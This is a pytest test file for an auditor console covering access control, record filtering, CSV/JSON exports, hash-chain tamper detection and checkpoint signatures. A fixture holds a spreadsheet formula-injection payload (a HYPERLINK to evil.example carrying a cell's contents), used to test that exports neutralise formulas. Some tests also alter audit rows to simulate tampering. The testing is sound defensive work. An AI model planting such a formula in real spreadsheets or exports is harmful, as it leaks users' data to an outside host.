"""The auditor console in-process: only the audit administrator opens it (pages and
API, every refusal audited); filters and pages; a record and its chain position;
CSV and JSON exports of the whole filter (formula cells neutralised, the export
itself audited); verification with its result; the checkpoint list; bad input
answered with a readable page, never a 500; one language per page."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
import sqlalchemy as sa
from starlette.testclient import TestClient

from audit import AuditLog, AuditRecord
from audit.indexer import Indexer
from audit.journal import Journal
from audit.spreadsheet import restore
from gateway.app import create_app
from gateway.idp.oauth2.provider import SESSION_COOKIE
from gateway.services import Services
from gateway.settings import Settings
from tests.oauth2.helpers import audit_events, close_services, csrf_of, make_services
from tests.portal.test_catalogue_pages import fast_hashes, sign_in  # noqa: F401 - fixture
from tests.portal.test_languages import check
from tests.tokens import access_token
from tests.wiring import parts

ADMIN_PASSWORD = "Brand-New-Passw0rd-2026!"
PAGES = ("/portal/audit", "/portal/audit/records/1", "/portal/audit/export?format=csv",
         "/portal/audit/verify", "/portal/audit/checkpoints")
APIS = ("/api/v1/audit/records", "/api/v1/audit/records/1", "/api/v1/audit/export",
        "/api/v1/audit/verify", "/api/v1/audit/checkpoints")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def portal(settings: Settings, fast_hashes: None  # noqa: F811
           ) -> Iterator[tuple[Services, TestClient]]:
    services = make_services(settings)
    services.audit.append_many_sync([
        AuditRecord(event_type="proxy_request", outcome="allow", actor_user="zhao.min",
                    department="czt", system="vehicles", resource="JG-0001",
                    items=("plate_number", "brand"), reason=FORMULA, status=200,
                    request_id="req-formula", purpose="+车辆费用核算"),
        AuditRecord(event_type="proxy_request", outcome="deny", actor_user="wang.wu",
                    department="nn-jgsw", system="vehicles", resource="JG-0001",
                    reason="no grant for department nn-jgsw", status=403,
                    request_id="req-denied"),
        AuditRecord(event_type="proxy_request", outcome="allow", actor_client="finance-system",
                    department="czt", system="offices", resource="JG-0002", status=200,
                    reason="unconditional", request_id="req-client",
                    extra={"target": "/s/offices/api/rooms"}),
    ])
    services.audit.checkpoint_sync()
    with TestClient(create_app(parts(services)), base_url="http://127.0.0.1:8080") as c:
        yield services, c
    close_services(services)


def as_admin(services: Services, client: TestClient, username: str) -> None:
    """A live portal session of the admin account ``username`` (past its first change)."""
    services.org.change_password(username, ADMIN_PASSWORD)
    token, _ = parts(services).provider.store.create_session(
        username, "active", amr="pwd otp", absolute_seconds=3600)
    client.cookies.clear()
    client.cookies.set(SESSION_COOKIE, token)


def record_id(services: Services, request_id: str) -> int:
    (row,) = [r for r in audit_events(services, "proxy_request")
              if r["request_id"] == request_id]
    return int(row["id"])


def test_only_the_auditor_opens_the_console(portal: tuple[Services, TestClient]) -> None:
    services, client = portal
    for path in PAGES:  # no session: the sign-in, coming back here
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/portal/login?next=")
    for who in ("li.si", "zhang.san", "sysadmin", "secadmin"):
        if who in ("sysadmin", "secadmin"):
            as_admin(services, client, who)
        else:
            sign_in(client, who)
        for path in PAGES:
            r = client.get(path, headers={"Accept": "text/html"})
            assert r.status_code == 403, (who, path, r.status_code)
            assert "无权访问" in r.text and "审计控制台" not in r.text.split("<main")[1]
        r = client.post("/portal/audit/verify", data={"csrf_token": "x"})
        assert r.status_code == 403, who
        # the API, with the session cookie and with a bearer token that has the scope
        for path in APIS:
            r = client.get(path)
            assert r.status_code == 403 and r.headers["content-type"].startswith(
                "application/problem+json"), (who, path)
        token = access_token(services, sub=who, department=services.org.get_user(who).department,
                             roles=sorted(services.org.get_user(who).roles))
        r = client.get("/api/v1/audit/export", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 403
    denied = [(r["actor_user"], json.loads(r["extra"])["path"])
              for r in audit_events(services, "audit_query") if r["outcome"] == "deny"]
    for who in ("li.si", "zhang.san", "sysadmin", "secadmin"):
        assert {p for u, p in denied if u == who} == {p.split("?")[0] for p in (*PAGES, *APIS)}


def test_filters_pages_and_a_record_in_its_chain(portal: tuple[Services, TestClient]) -> None:
    services, client = portal
    as_admin(services, client, "auditor")
    r = client.get("/portal/audit", params={"system": "vehicles", "limit": "20"})
    assert r.status_code == 200
    check(r.text, "zh", "audit search")
    assert r.text.count('class="record-link"') == 2
    assert f'data-id="{record_id(services, "req-formula")}"' in r.text
    r = client.get("/portal/audit", params={"outcome": "deny", "user": "wang.wu"})
    assert r.text.count('class="record-link"') == 1 and "req-denied" not in r.text
    r = client.get("/portal/audit", params={"text": "/S/OFFICES"})  # the extra fields
    assert r.text.count('class="record-link"') == 1
    # keyset paging: 20 a page, then the next, never twice the same
    services.audit.append_many_sync([AuditRecord(
        event_type="login", outcome="failure", actor_user=f"guess{i}", reason="wrong password")
        for i in range(25)])
    first = client.get("/portal/audit", params={"event_type": "login", "outcome": "failure"})
    assert first.text.count('class="record-link"') == 20
    second = client.get(re.search(r'id="next-page" href="([^"]+)"|href="([^"]+)" id="next-page"',
                                  first.text).group(2).replace("&amp;", "&"))
    assert second.text.count('class="record-link"') == 5 and 'id="first-page"' in second.text
    ids = re.findall(r'data-id="(\d+)"', first.text) + re.findall(r'data-id="(\d+)"',
                                                                  second.text)
    assert len(ids) == len(set(ids)) == 25
    # the since/until typed in the page are China time: 1970-01-01T08:00 is epoch 0
    r = client.get("/portal/audit", params={"since": "1970-01-01T08:00", "until": "1970-01-01"})
    assert r.status_code == 400 and 'id="error"' in r.text and "结束时间" in r.text
    check(r.text, "zh", "audit search error")
    r = client.get("/portal/audit", params={"user": "a b", "lang": "en"})
    assert r.status_code == 400 and "User: bad value" in r.text
    check(r.text, "en", "audit search error en")

    rid = record_id(services, "req-formula")
    page = client.get(f"/portal/audit/records/{rid}?lang=zh")
    assert page.status_code == 200
    check(page.text, "zh", "audit record")
    assert 'id="c-hash-ok"' in page.text and 'id="c-writer"' in page.text
    assert "idp-test" in page.text  # the writer
    assert 'id="c-checkpoint"' in page.text and "检查点 1" in page.text
    nxt = client.get(f"/portal/audit/records/{rid + 1}?lang=en")
    assert 'id="c-prev-ok"' in nxt.text and f'/portal/audit/records/{rid}"' in nxt.text
    check(nxt.text, "en", "audit record en")
    assert client.get("/portal/audit/records/99999999").status_code == 404
    assert client.get("/portal/audit/records/nope").status_code == 404
    api = client.get(f"/api/v1/audit/records/{rid}")
    assert api.status_code == 200 and api.json()["hash_ok"] is True
    assert api.json()["record"]["request_id"] == "req-formula"
    assert client.get("/api/v1/audit/records/99999999").status_code == 404


def test_the_chinese_reading_of_two_grants_a_value_refusal_and_a_key_export(
        portal: tuple[Services, TestClient]) -> None:
    """The walk of 2026-12-05: a delivery by two grants was read as one whose purpose ran
    on into the second in English, a refusal by a parameter's value stayed English
    after its first clause, and the filter listed audit_keys_exported by its code."""
    services, client = portal
    services.audit.append_many_sync([
        AuditRecord(event_type="proxy_request", outcome="allow", actor_client="finance-system",
                    department="czt", system="vehicles", resource="JG-0001", status=200,
                    request_id="req-two-grants",
                    reason="grant 1 (JG-0001 to czt/finance-system, purpose 费用核算), "
                           "grant 2 (JG-0001 to czt, purpose 油耗统计)"),
        AuditRecord(event_type="proxy_request", outcome="error", actor_client="finance-system",
                    department="czt", system="vehicles", resource="JG-0001", status=400,
                    request_id="req-by-value",
                    reason="JG-0001: query parameter 'sort' refused: its value names item "
                           "'driver_id_number', which this caller is not given in the clear: "
                           "a request may not select, filter or sort by it"),
        AuditRecord(event_type="audit_keys_exported", outcome="success", actor_user="root",
                    reason="audit trust keys exported (cli)")])
    as_admin(services, client, "auditor")
    page = client.get("/portal/audit", params={"system": "vehicles"}).text
    assert ("授权 <code>1</code>（<code>JG-0001</code> 授予 <code>czt/finance-system</code>，"
            "用途：<code>费用核算</code>）；授权 <code>2</code>（<code>JG-0001</code> 授予 "
            "<code>czt</code>，用途：<code>油耗统计</code>）") in page
    assert "：参数值指向调用方不能明文获得的信息项 <code>&#39;driver_id_number&#39;</code>" in page
    assert '<option value="audit_keys_exported">审计公钥导出</option>' in page


def test_exports_whole_filter_formula_safe_and_audited(portal: tuple[Services, TestClient],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    services, client = portal
    as_admin(services, client, "auditor")
    r = client.get("/portal/audit/export", params={"event_type": "proxy_request",
                                                  "format": "csv", "limit": "20"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["request_id"] for row in rows] == ["req-client", "req-denied", "req-formula"]
    formula = rows[-1]
    assert formula["reason"] == "'" + FORMULA and restore(formula["reason"]) == FORMULA
    assert formula["purpose"] == "'+车辆费用核算"
    assert json.loads(formula["items"]) == ["plate_number", "brand"]
    assert formula["hash"] and formula["prev_hash"] is not None
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())

    r = client.get("/api/v1/audit/export", params={"system": "vehicles", "format": "json"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/json")
    doc = r.json()
    assert doc["count"] == 2 and doc["filters"] == {"system": "vehicles"}
    assert [x["request_id"] for x in doc["records"]] == ["req-denied", "req-formula"]
    assert doc["records"][1]["reason"] == FORMULA  # JSON keeps the value as it is

    exports = audit_events(services, "audit_export")
    assert [(e["actor_user"], e["outcome"], json.loads(e["extra"])["records"],
             json.loads(e["extra"])["format"]) for e in exports] == [
        ("auditor", "success", 3, "csv"), ("auditor", "success", 2, "json")]

    # too wide, or a format that is none: a readable refusal, audited
    monkeypatch.setattr("gateway.web.audit_console.MAX_EXPORT", 2)
    r = client.get("/portal/audit/export", params={"format": "csv"})
    assert r.status_code == 400 and "一次导出最多 2 条" in r.text
    check(r.text, "zh", "export refused")
    r = client.get("/api/v1/audit/export", params={"format": "xlsx", "system": "offices"})
    assert r.status_code == 400 and r.json()["field"] == "format"
    failures = [e for e in audit_events(services, "audit_export") if e["outcome"] == "failure"]
    assert len(failures) == 2


def _verify(client: TestClient, **form: str) -> Any:
    page = client.get("/portal/audit/verify")
    return client.post("/portal/audit/verify", data={"csrf_token": csrf_of(page.text), **form})


def test_verify_a_range_and_see_tampering(portal: tuple[Services, TestClient]) -> None:
    services, client = portal
    as_admin(services, client, "auditor")
    r = _verify(client)
    assert r.status_code == 200 and 'data-intact="yes"' in r.text
    assert "<progress" in r.text and "审计日志完整" in r.text
    check(r.text, "zh", "verify intact")
    r = _verify(client, since="2020-01-01T00:00", until="2099-01-01T00:00")
    assert 'data-intact="yes"' in r.text and "2020-01-01 00:00:00" in r.text
    r = _verify(client, since="2030-01-01", until="2020-01-01")
    assert r.status_code == 400 and 'id="error"' in r.text
    r = client.post("/portal/audit/verify", data={"csrf_token": "forged"})
    assert r.status_code == 400
    api = client.get("/api/v1/audit/verify")
    assert api.status_code == 200 and api.json()["intact"] is True
    assert client.get("/api/v1/audit/verify", params={"since": "soon"}).status_code == 400

    rid = record_id(services, "req-denied")
    with services.engine.begin() as conn:
        conn.execute(sa.text("UPDATE audit_records SET outcome='allow' WHERE id=:i"), {"i": rid})
    r = _verify(client)
    assert 'data-intact="no"' in r.text and 'id="verify-problems"' in r.text
    assert "审计日志已被篡改" in r.text
    page = client.get("/portal/audit/verify?lang=en")
    r = client.post("/portal/audit/verify?lang=en", data={"csrf_token": csrf_of(page.text)})
    assert "tampered" in r.text
    check(r.text, "en", "verify tampered")
    assert client.get("/api/v1/audit/verify").json()["intact"] is False
    page = client.get(f"/portal/audit/records/{rid}")
    assert 'id="c-hash-bad"' in page.text
    verified = [json.loads(e["extra"])["intact"] for e in audit_events(services, "audit_verify")
                if e["outcome"] in ("success", "failure") and e["status"] == 200]
    assert verified == [True, True, True, False, False, False]


def test_checkpoints_with_their_signatures(portal: tuple[Services, TestClient]) -> None:
    services, client = portal
    services.audit.checkpoint_sync()
    as_admin(services, client, "auditor")
    r = client.get("/portal/audit/checkpoints")
    assert r.status_code == 200
    check(r.text, "zh", "checkpoints")
    assert r.text.count("签名有效") >= 2 and "签名无效" not in r.text
    api = client.get("/api/v1/audit/checkpoints", params={"limit": "1"})
    body = api.json()
    assert api.status_code == 200 and len(body["checkpoints"]) == 1
    assert body["checkpoints"][0]["signature_ok"] is True and body["next_before"]
    older = client.get("/api/v1/audit/checkpoints",
                       params={"before": str(body["next_before"])}).json()
    assert older["checkpoints"][0]["seq"] < body["checkpoints"][0]["seq"]
    with services.engine.begin() as conn:
        conn.execute(sa.text("UPDATE audit_checkpoints SET signature='AAAA' WHERE seq=1"))
    r = client.get("/portal/audit/checkpoints?lang=en")
    assert "invalid" in r.text
    check(r.text, "en", "checkpoints en")
    assert client.get("/api/v1/audit/checkpoints", params={"limit": "0"}).status_code == 400
    assert client.get("/portal/audit/checkpoints", params={"before": "x"}).status_code == 200


def test_verify_in_the_portal_reads_the_journal_too(portal: tuple[Services, TestClient]
                                                    ) -> None:
    """Records written after the last checkpoint, cut from the table with the chain's
    registry head moved back, are still in the journal: the portal's verification says
    so, as the CLI and the API do (found by h-tamper)."""
    services, client = portal
    if services.settings.audit_journal_path is None:
        pytest.skip("no journal: the database path (PostgreSQL's default)")
    as_admin(services, client, "auditor")
    page = client.get("/portal/audit/verify")
    journal = Journal(services.settings.audit_journal_path)
    log = AuditLog(services.engine, keys=services.keys, writer_id="journaled", journal=journal)
    indexer = Indexer(services.engine, journal, own=log.journal_position,
                      on_checkpoint=log.note_checkpoint)
    log.attach_indexer(indexer)
    log.append_many_sync([AuditRecord(event_type="proxy_request", outcome="allow",
                                      actor_user="zhao.min", department="czt", status=200)
                          for _ in range(3)])
    indexer.run_once()
    log.checkpoint_sync()
    log.append_many_sync([AuditRecord(event_type="proxy_request", outcome="allow",
                                      actor_user="zhao.min", department="czt", status=200)
                          for _ in range(3)])
    indexer.run_once()
    with services.engine.begin() as conn:  # the tail after the checkpoint cut
        conn.execute(sa.text("DELETE FROM audit_records WHERE chain_id=:c AND seq>3"),
                     {"c": log.chain_id})
        conn.execute(sa.text(
            "UPDATE audit_chains SET head_seq=3, head_hash=(SELECT hash FROM audit_records "
            "WHERE chain_id=:c AND seq=3) WHERE chain_id=:c"), {"c": log.chain_id})
    r = client.post("/portal/audit/verify", data={"csrf_token": csrf_of(page.text)})
    assert 'data-intact="no"' in r.text and f"chain={log.chain_id} seq=4" in r.text
    log.close_sync()


def test_the_user_filter_finds_the_delegate_too_and_says_which(
        portal: tuple[Services, TestClient]) -> None:
    """委托: B (li.si) acting for A (zhang.san) is recorded as A's with ``extra.act``
    B; the user filter found such a record by A only. Now by either, each row saying
    which of its people matched (page and API; the CLI's query is the same filter)."""
    services, client = portal
    services.audit.append_many_sync([
        AuditRecord(event_type="proxy_request", outcome="allow", actor_user="zhang.san",
                    department="jgswj", system="offices", status=200, request_id="req-acted",
                    extra={"act": {"sub": "li.si"}, "delegation": "dlg-1",
                           "acting_department": "jgswj"}),
        AuditRecord(event_type="login", outcome="success", actor_user="li.si",
                    request_id="req-own"),
        # a system acting for the user (RFC 8693) is not a person filtered for
        AuditRecord(event_type="proxy_request", outcome="allow", actor_user="wang.wu",
                    system="offices", status=200, request_id="req-system",
                    extra={"act": {"sub": "client:li.si"}})])
    as_admin(services, client, "auditor")
    acted = record_id(services, "req-acted")
    r = client.get("/portal/audit", params={"user": "li.si"})
    assert r.status_code == 200 and r.text.count('class="record-link"') == 2, r.text
    row = r.text[r.text.index(f'data-id="{acted}"'):]
    row = row[:row.index("</tr>")]
    assert 'data-matched="delegate"' in row and "匹配：代理人" in row
    assert "由 li.si 代为操作" in row
    assert r.text.count('data-matched="user"') == 1
    check(r.text, "zh", "audit search by a delegate")
    r = client.get("/portal/audit", params={"user": "zhang.san", "lang": "en"})
    assert r.text.count('class="record-link"') == 1 and "matched: the user" in r.text
    assert "acted for by li.si" in r.text
    api = client.get("/api/v1/audit/records", params={"user": "li.si"}).json()["records"]
    assert {(x["request_id"], x["matched_as"]) for x in api} == {
        ("req-acted", "delegate"), ("req-own", "user")}
    api = client.get("/api/v1/audit/records", params={"user": "client:li.si"}).json()
    assert [x["request_id"] for x in api["records"]] == ["req-system"]
